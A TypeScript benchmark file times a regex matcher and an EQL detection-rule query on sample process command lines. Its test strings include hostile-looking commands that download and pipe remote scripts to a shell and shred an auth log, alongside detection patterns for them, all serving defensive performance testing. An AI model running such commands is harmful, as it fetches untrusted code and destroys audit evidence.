/**
 * Regex matcher bench (`node_modules/.bin/tsx test/bench/regex.ts`): prints figures, asserts nothing.
 * - compile time of rule-style patterns;
 * - per-call cost on ordinary command lines (batched so the timer's own cost does not dominate);
 * - one call on a 300 KB value for rule-style and pathological patterns (first call: cold lazy
 *   DFA; then the median of warm calls), which a backtracking engine could not finish.
 */
import { compileLuceneRegex } from "../../src/eql/regex.ts";

const CS = { caseInsensitive: false };
const CI = { caseInsensitive: true };

// Patterns in the style of the detection rules' regex clauses (written for this bench).
const RULE_STYLE: [string, { caseInsensitive: boolean }][] = [
  [".*[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}:[0-9]{1,5}.*", CS],
  [".*[A-Za-z0-9][A-Za-z0-9\\-]*(\\.[A-Za-z0-9][A-Za-z0-9\\-]*)+(:[0-9]{1,5})?/[^ ]+.*", CS],
  ["-[^-]*[uz][^-]*", CI],
  ["\\.[a-z0-9_\\-][a-z0-9_\\-\\.]{1,254}", CI],
  ["/var/run/\\w+\\.(pid|lock|reboot)", CI],
];
const PATHOLOGICAL = ["(a|a)*b", "(.*a){20}", "(a*)*b", "(x+x+)+y", "(.*a.*)&~(.*b.*)", ".*a.{12}"];

function ms(t0: bigint): number {
  return Number(process.hrtime.bigint() - t0) / 1e6;
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)]!;
}

console.log("compile (median of 200, after warm-up):");
for (const [p, o] of RULE_STYLE) {
  for (let i = 0; i < 20; i++) compileLuceneRegex(p, o);
  const ts: number[] = [];
  for (let i = 0; i < 200; i++) {
    const t0 = process.hrtime.bigint();
    compileLuceneRegex(p, o);
    ts.push(ms(t0));
  }
  console.log(`  ${median(ts).toFixed(3)} ms  ${o.caseInsensitive ? "regex~" : "regex "} ${p}`);
}

const commandLines = [
  "/usr/bin/curl -fsSL http://203.0.113.7:8080/payload.sh -o /tmp/.x",
  "bash -c 'wget -q -O- http://updates.example.com/i.sh | sh'",
  "/usr/sbin/sshd -D -R",
  "shred -uz /var/log/auth.log",
  "/usr/lib/systemd/systemd-journald",
  "python3 -m http.server 8000 --bind 0.0.0.0",
];
const BATCH = 20_000;
console.log(`per call on ordinary command lines (mean over ${BATCH} calls x ${commandLines.length} lines):`);
for (const [p, o] of RULE_STYLE) {
  const m = compileLuceneRegex(p, o);
  for (let i = 0; i < 1000; i++) for (const v of commandLines) m(v);
  const t0 = process.hrtime.bigint();
  let hits = 0;
  for (let i = 0; i < BATCH; i++) for (const v of commandLines) if (m(v)) hits++;
  const perCallUs = (ms(t0) * 1000) / (BATCH * commandLines.length);
  console.log(`  ${perCallUs.toFixed(3)} us/call (hits ${hits / BATCH}/${commandLines.length})  ${p}`);
}

const big = "a".repeat(300_000);
const bigCommand = `${"curl http://203.0.113.7:8080/x -H 'A: b' ".repeat(7500)}`.slice(0, 300_000);
console.log("one call on a 300 KB value: cold (first call), warm median of 9:");
for (const [p, v, label] of [
  ...RULE_STYLE.map(([p]) => [p, bigCommand, "300 KB command line"] as const),
  ...PATHOLOGICAL.map((p) => [p, `${big}b`, "a^300000 b"] as const),
]) {
  const m = compileLuceneRegex(p, CS);
  const t0 = process.hrtime.bigint();
  const verdict = m(v);
  const cold = ms(t0);
  const warm: number[] = [];
  for (let i = 0; i < 9; i++) {
    const t1 = process.hrtime.bigint();
    m(v);
    warm.push(ms(t1));
  }
  console.log(
    `  cold ${cold.toFixed(2)} ms, warm ${median(warm).toFixed(2)} ms -> ${verdict}  ${p} on ${label}`,
  );
}

// The regex rule path end to end: a compiled EQL event query with `regex` / `regex~` clauses.
const { compileQuery } = await import("../../src/eql/index.ts");
const ruleQuery = `process where event.type == "start" and
  (process.command_line regex ".*[0-9]{1,3}\\\\.[0-9]{1,3}\\\\.[0-9]{1,3}\\\\.[0-9]{1,3}(:[0-9]{1,5})?/[^ ]+.*" or
   process.executable regex~ """/var/run/\\w+\\.(pid|lock|reboot)""")`;
const q = compileQuery(ruleQuery);
const event = (cmd: string, exe: string) => ({
  event: { category: ["process"], type: ["start"] },
  process: { command_line: cmd, executable: exe, name: exe.split("/").pop() },
});
const events = [
  event("/usr/bin/curl -fsSL http://203.0.113.7:8080/payload.sh -o /tmp/.x", "/usr/bin/curl"),
  event("/usr/sbin/sshd -D", "/usr/sbin/sshd"),
  event("/var/run/agent.pid --daemon", "/VAR/RUN/agent.PID"),
  event(`python3 -c '${"x".repeat(300_000)}'`, "/usr/bin/python3"),
];
const verdicts = events.map((e) => q.matches(e));
for (let i = 0; i < 200; i++) for (const e of events.slice(0, 3)) q.matches(e);
const N = 20_000;
const t0 = process.hrtime.bigint();
for (let i = 0; i < N; i++) for (const e of events.slice(0, 3)) q.matches(e);
const perEventUs = (ms(t0) * 1000) / (N * 3);
const t1 = process.hrtime.bigint();
q.matches(events[3]!);
console.log(
  `regex rule via compileQuery: ${perEventUs.toFixed(3)} us/event on ordinary process events; ` +
    `${ms(t1).toFixed(2)} ms on a 300 KB command line; verdicts ${JSON.stringify(verdicts)}`,
);
